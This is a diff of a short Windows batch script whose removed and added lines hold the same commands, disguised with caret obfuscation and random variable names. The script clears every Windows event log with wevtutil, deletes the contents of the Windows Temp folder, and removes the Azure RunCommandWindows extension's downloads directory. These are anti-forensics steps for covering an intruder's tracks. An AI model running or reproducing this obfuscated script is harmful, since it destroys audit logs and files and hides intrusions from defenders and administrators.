@@ -1,8 +1,8 @@
-REM task 5501 v1
-^^f^^or /F "tokens=*" %%^1 ^i^n ('^we^v^^t^u^t^^il.^^ex^^e ^e^l') ^^D^O ^w^e^^v^tu^^t^il.^ex^^e ^c^l "%%1"
+REM task 0083 v1
+fo^r /F "tokens=*" %%^1 in ('^w^e^vt^u^t^i^^l.ex^e ^e^^l') ^D^O ^w^e^v^t^ut^i^l.e^x^^e ^^cl "%%1"
 @echo off
-set fgsl=del /^f /^q C:\Wi^n^d^ow^s\^T^em^p\*.*
-call %fgsl%
+set vnyg=^de^l /f /^q ^C:\W^i^n^do^ws\T^em^p\*.*
+call %vnyg%
 @echo off
-set otzg=rd /s /q ^C:\P^a^ck^ag^es\^Pl^u^gi^ns\M^i^cro^sof^t.CPl^at.^C^ore.^RunCom^mandW^indo^ws\1.1.15\^D^ownl^o^ads
-call %otzg%
+set lbll=^rd /^s /q C:\^P^acka^g^es\P^lug^ins\^Mi^c^ros^oft.^C^P^lat.Co^re.RunCo^m^mandWi^n^do^ws\^1.^1.1^5\^Dow^nloa^d^s
+call %lbll%
